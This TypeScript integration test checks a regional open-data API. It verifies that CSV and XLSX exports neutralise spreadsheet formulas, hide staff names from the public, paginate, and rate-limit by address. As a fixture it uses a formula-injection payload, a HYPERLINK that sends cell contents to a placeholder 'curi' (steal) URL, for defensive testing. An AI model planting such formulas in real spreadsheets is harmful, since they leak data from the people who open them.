import { randomBytes } from 'node:crypto';
import type { INestApplication } from '@nestjs/common';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { Redis } from 'ioredis';
import { villagesOf } from '@gotong/domain/region';
import { createApiApp } from '../apps/api/src/app.factory';
import { CSV_COLUMNS, PUBLIC_CSV_COLUMNS } from '../apps/api/src/data/published-data.service';
import { eventually, http, startStack, type Stack } from './support/stack';

/**
 * The published figures as the public and the signed-in see them, through the real stack: an indicator whose
 * name is a spreadsheet formula (`=HYPERLINK(…)`) is requested from DINSOS for every desa of a kecamatan,
 * submitted and verified, and then read
 *
 * - from the CSV (open and signed-in): the formula comes out as text (a leading single quote), and no staff
 *   name or position is in it unless the caller is the walidata or an admin;
 * - from the open data API (/public/data/*, no login): names of areas and kecamatan, provenance by OPD and
 *   role, pages that say how many there are and which comes next, XLSX with the formula as a text cell;
 * - and the per-address limit on the open endpoints: 429 with Retry-After, counted by TRUSTED_PROXIES' rules.
 *
 * Kecamatan Wonomerto (35.13.22) and period 2061 are this file's own.
 */
const KECAMATAN = '35.13.22';
const PERIOD = '2061';
const FORMULA = '=HYPERLINK("http://contoh.invalid/curi?d="&A1,"Klik di sini")';

describe('published data: formula-safe exports, no personal names, the open API (real API, Temporal, Postgres, Redis)', () => {
  let stack: Stack;
  let walidata: string;
  let staffDinsos: string;
  let staffDinkes: string;
  let names: string[];
  const code = `PUBLIK_${randomBytes(3).toString('hex').toUpperCase()}`;
  const desa = villagesOf(KECAMATAN).map((v) => v.code);
  const values = Object.fromEntries(desa.map((d, i) => [d, 10 + i]));

  beforeAll(async () => {
    stack = await startStack();
    [walidata, staffDinsos, staffDinkes] = await Promise.all([
      stack.login('walidata'),
      stack.login('staff.dinsos'),
      stack.login('staff.dinkes'),
    ]);
    const people = await stack.db.user.findMany({
      where: { username: { in: ['walidata', 'staff.dinsos'] } },
      select: { fullName: true, position: true },
    });
    // Full names are searched for in the files; positions are generic words ("Walidata"), checked by field below.
    names = people.map((p) => p.fullName);
    expect(names).toHaveLength(2);

    // The walidata defines an indicator whose name is a formula (a label is free text), asks DINSOS for it in
    // every desa of the kecamatan; DINSOS submits, the walidata verifies: the figures are published.
    const defined = await api(walidata).post('/data/indicators', {
      code,
      name: FORMULA,
      definition: 'Indikator uji: namanya sebuah rumus spreadsheet.',
      unit: 'keluarga',
      valueType: 'integer',
      areaLevel: 'desa',
      periodicity: 'yearly',
      producers: ['DINSOS'],
      metadata: { source: '+SUM(1,2)', method: '@uji', contact: 'Walidata Diskominfo' },
    });
    expect(defined.status).toBe(201);
    const request = await api(walidata).post('/data/requests', {
      indicators: [code],
      period: PERIOD,
      areas: [KECAMATAN],
    });
    expect(request.status).toBe(201);
    const task = await eventually(async () => {
      const p = await api(walidata).get(`/projects/${request.body.id}`);
      return p.body?.steps?.[0]?.task?.id as string | undefined;
    });
    const key = (await api(staffDinsos).get(`/tasks/${task}`)).body.form.fields[0].key as string;
    const submitted = await api(staffDinsos).post(`/tasks/${task}/contribution`, {
      values: { [key]: values },
    });
    expect(submitted.status).toBe(200);
    expect((await api(walidata).post(`/tasks/${task}/review`, { decision: 'ACCEPT' })).status).toBe(200);
    await eventually(async () => {
      const res = await api(walidata).get(`/data/published?indicator=${code}`);
      return res.body.total === desa.length;
    });
  }, 180_000);

  afterAll(async () => {
    await stack?.stop();
  });

  const api = (token?: string) => http(stack.baseUrl, token);
  const text = async (path: string, token?: string) => {
    const res = await fetch(`${stack.baseUrl}${path}`, {
      headers: token ? { authorization: `Bearer ${token}` } : {},
    });
    return { status: res.status, headers: res.headers, body: await res.text() };
  };
  const records = (csv: string) => {
    const table: string[][] = parse(csv);
    const [header, ...rows] = table;
    return { header: header!, rows: rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!]))) };
  };

  it('writes a label beginning with = as text in the CSV, for the public and the signed-in alike', async () => {
    for (const [path, token] of [
      [`/data/published.csv?indicator=${code}`, undefined],
      [`/data/published.csv?indicator=${code}`, staffDinkes],
      [`/data/published.csv?indicator=${code}`, walidata],
      [`/public/data/figures.csv?indicator=${code}`, undefined],
    ] as const) {
      const res = await text(path, token);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
      const { rows } = records(res.body);
      expect(rows).toHaveLength(desa.length);
      for (const row of rows) {
        expect(row['indicator_name']).toBe(`'${FORMULA}`);
        expect(row['source']).toBe(`'+SUM(1,2)`);
        expect(row['method']).toBe(`'@uji`);
      }
      expect(res.headers.get('x-total-count')).toBe(String(desa.length));
      // No line of the file starts a cell with a formula character unquoted.
      expect(res.body).not.toMatch(/(^|,)"?[=+@]/m);
      expect(rows.map((r) => [r['area_code'], Number(r['value'])])).toEqual(desa.map((d) => [d, values[d]]));
    }
  });

  it('publishes no staff name or position, except to the walidata and admins', async () => {
    const anonymous = await text(`/data/published.csv?indicator=${code}`);
    const staff = await text(`/data/published.csv?indicator=${code}`, staffDinkes);
    const open = await text(`/public/data/figures.csv?indicator=${code}`);
    for (const res of [anonymous, staff, open]) {
      for (const name of names) expect(res.body).not.toContain(name);
      const { header, rows } = records(res.body);
      expect(header).toEqual(PUBLIC_CSV_COLUMNS);
      // Provenance by OPD and role.
      expect(rows[0]).toMatchObject({
        producers: 'DINSOS',
        submitted_by_role: 'STAFF DINSOS',
        verified_by_role: expect.stringMatching(/^WALIDATA /),
      });
    }
    for (const path of [`/data/published?indicator=${code}`, `/public/data/figures?indicator=${code}`]) {
      for (const token of [undefined, staffDinkes]) {
        const json = await text(path, path.startsWith('/data') ? token : undefined);
        expect(json.status).toBe(200);
        for (const name of names) expect(json.body).not.toContain(name);
        const first = JSON.parse(json.body).items[0];
        expect(first.sources[0]).toMatchObject({
          agency: { code: 'DINSOS' },
          submittedBy: { role: 'STAFF', agency: 'DINSOS' },
          verifiedBy: { role: 'WALIDATA' },
        });
        expect(first.sources[0].submittedBy.name).toBeUndefined();
        expect(first.sources[0].submittedBy.position).toBeUndefined();
        expect(first.sources[0].verifiedBy.name).toBeUndefined();
        expect(first.sources[0].verifiedBy.position).toBeUndefined();
      }
    }

    // The data custodian sees who submitted and verified, by name.
    const custodian = await text(`/data/published.csv?indicator=${code}`, walidata);
    const { header, rows } = records(custodian.body);
    expect(header).toEqual(CSV_COLUMNS);
    const [walidataUser, dinsosUser] = await Promise.all(
      ['walidata', 'staff.dinsos'].map((username) =>
        stack.db.user.findUniqueOrThrow({ where: { username }, select: { fullName: true } }),
      ),
    );
    expect(rows[0]).toMatchObject({
      submitted_by: dinsosUser!.fullName,
      verified_by: walidataUser!.fullName,
    });
    const json = await api(walidata).get(`/data/published?indicator=${code}`);
    expect(json.body.items[0].sources[0].submittedBy).toMatchObject({
      name: dinsosUser!.fullName,
      role: 'STAFF',
    });

    // A bad token is not a way around anything: 401.
    expect((await text(`/data/published.csv?indicator=${code}`, 'not-a-token')).status).toBe(401);
  });

  it('serves the figures without login, page by page, with the names of desa and kecamatan', async () => {
    const indicators = await api().get('/public/data/indicators');
    expect(indicators.status).toBe(200);
    expect((indicators.body as any[]).find((i) => i.code === code)).toMatchObject({
      name: FORMULA,
      unit: 'keluarga',
      periods: [{ period: PERIOD, figures: desa.length }],
    });

    const pageSize = 3;
    const seen: string[] = [];
    let page: number | null = 1;
    while (page !== null) {
      const res = await api().get(
        `/public/data/figures?indicator=${code}&period=${PERIOD}&pageSize=${pageSize}&page=${page}`,
      );
      expect(res.status).toBe(200);
      expect(res.body).toMatchObject({ total: desa.length, page, pageSize });
      expect(res.headers.get('x-total-count')).toBe(String(desa.length));
      const more = page * pageSize < desa.length;
      expect(res.body.nextPage).toBe(more ? page + 1 : null);
      if (more) expect(res.headers.get('link')).toContain(`page=${page + 1}`);
      else expect(res.headers.get('link')).toBeNull();
      for (const item of res.body.items) {
        expect(item.areaName).toBe(villagesOf(KECAMATAN).find((v) => v.code === item.areaCode)!.name);
        expect(item.kecamatan).toEqual({ code: KECAMATAN, name: 'Wonomerto' });
        expect(item.sources[0].taskId).toBeUndefined();
        seen.push(item.areaCode);
      }
      page = res.body.nextPage;
    }
    expect(seen).toEqual(desa);

    // Totals per kecamatan and kabupaten over every figure, not just one page.
    const first = await api().get(`/public/data/figures?indicator=${code}&pageSize=1`);
    const total = (first.body.totals as any[]).find(
      (x) => x.level === 'KECAMATAN' && x.areaCode === KECAMATAN,
    );
    expect(total).toMatchObject({
      value: Object.values(values).reduce((a, b) => a + b, 0),
      areasCounted: desa.length,
      complete: true,
    });

    // By desa, and bad filters named.
    const one = await api().get(`/public/data/figures?indicator=${code}&desa=${desa[1]}`);
    expect(one.body.items.map((i: any) => [i.areaCode, i.value])).toEqual([[desa[1], values[desa[1]!]]]);
    const bad = await api().get('/public/data/figures?kecamatan=35.13.2&pageSize=9999');
    expect(bad.status).toBe(400);
    expect(bad.body.message).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^kecamatan must be/),
        expect.stringMatching(/^pageSize /),
      ]),
    );
  });

  it('gives the figures as XLSX with the formula as a text cell, the signed-in file too', async () => {
    for (const [path, token] of [
      [`/public/data/figures.xlsx?indicator=${code}`, undefined],
      [`/data/published.xlsx?indicator=${code}`, walidata],
    ] as const) {
      const res = await fetch(`${stack.baseUrl}${path}`, {
        headers: token ? { authorization: `Bearer ${token}` } : {},
      });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/spreadsheetml/);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(await res.arrayBuffer());
      const sheet = workbook.getWorksheet('data')!;
      const header = (sheet.getRow(1).values as unknown[]).slice(1);
      expect(header).toEqual(token ? CSV_COLUMNS : PUBLIC_CSV_COLUMNS);
      expect(sheet.rowCount).toBe(desa.length + 1);
      const nameCell = sheet.getRow(2).getCell(header.indexOf('indicator_name') + 1);
      expect(nameCell.type).toBe(ExcelJS.ValueType.String);
      expect(nameCell.value).toBe(FORMULA);
      expect(nameCell.formula).toBeUndefined();
      expect(sheet.getRow(2).getCell(header.indexOf('value') + 1).value).toBe(values[desa[0]!]);
      expect(workbook.getWorksheet('petunjuk')).toBeDefined();
    }
  });

  describe('the per-address limit on the open endpoints', () => {
    const LIMIT = 3;
    const OVERRIDDEN = [
      'PUBLIC_RATE_LIMIT',
      'PUBLIC_RATE_WINDOW',
      'REDIS_KEY_PREFIX',
      'TRUSTED_PROXIES',
    ] as const;
    const saved = Object.fromEntries(OVERRIDDEN.map((k) => [k, process.env[k]]));
    const prefix = `${process.env.REDIS_KEY_PREFIX ?? 'gotong-test:'}public-${randomBytes(4).toString('hex')}:`;
    let app: INestApplication;
    let url: string;
    let redis: Redis;

    beforeAll(async () => {
      process.env.PUBLIC_RATE_LIMIT = String(LIMIT);
      process.env.PUBLIC_RATE_WINDOW = '30s';
      process.env.REDIS_KEY_PREFIX = prefix;
      delete process.env.TRUSTED_PROXIES;
      app = await createApiApp();
      app.useLogger(['error', 'warn']);
      await app.listen(0, '127.0.0.1');
      url = (await app.getUrl()).replace('[::1]', '127.0.0.1');
      redis = new Redis(process.env.REDIS_URL!);
    });

    afterAll(async () => {
      await app?.close();
      if (redis) {
        const keys = await redis.keys(`${prefix}*`);
        if (keys.length > 0) await redis.del(...keys);
        await redis.quit();
      }
      for (const key of OVERRIDDEN) {
        if (saved[key] === undefined) delete process.env[key];
        else process.env[key] = saved[key];
      }
    });

    const get = (path: string, headers: Record<string, string> = {}) => fetch(`${url}${path}`, { headers });

    it(`answers ${LIMIT} requests per address across the open routes, then 429 with Retry-After; a signed-in reader of /data/published is not counted`, async () => {
      const from = { 'x-forwarded-for': '203.0.113.7' };
      const paths = [
        '/public/data/indicators',
        `/public/data/figures?indicator=${code}`,
        `/data/published.csv?indicator=${code}`,
      ];
      for (const [i, path] of paths.entries()) {
        const res = await get(path, from);
        expect(res.status).toBe(200);
        expect(res.headers.get('x-ratelimit-remaining-public')).toBe(String(LIMIT - i - 1));
      }
      const blocked = await get('/public/data/figures', from);
      expect(blocked.status).toBe(429);
      const retryAfter = Number(blocked.headers.get('retry-after'));
      expect(retryAfter).toBeGreaterThan(0);
      expect(retryAfter).toBeLessThanOrEqual(30);
      // A token does not open the open API's limit (it reads no token) …
      expect(
        (await get('/public/data/indicators', { ...from, authorization: `Bearer ${walidata}` })).status,
      ).toBe(429);
      // … but a signed-in reader of /data/published is authenticated, not counted.
      expect(
        (await get(`/data/published?indicator=${code}`, { ...from, authorization: `Bearer ${walidata}` }))
          .status,
      ).toBe(200);
      // The address comes from X-Forwarded-For only through a trusted proxy (loopback, here): another client
      // behind it has a bucket of its own.
      expect((await get('/public/data/indicators', { 'x-forwarded-for': '203.0.113.8' })).status).toBe(200);
      // The counters are in Redis under the configured prefix, hashed (no client address in the clear).
      const keys = await redis.keys(`${prefix}throttle:public:*`);
      expect(keys.length).toBeGreaterThan(0);
      expect(keys.join(' ')).not.toContain('203.0.113');
    });
  });
});
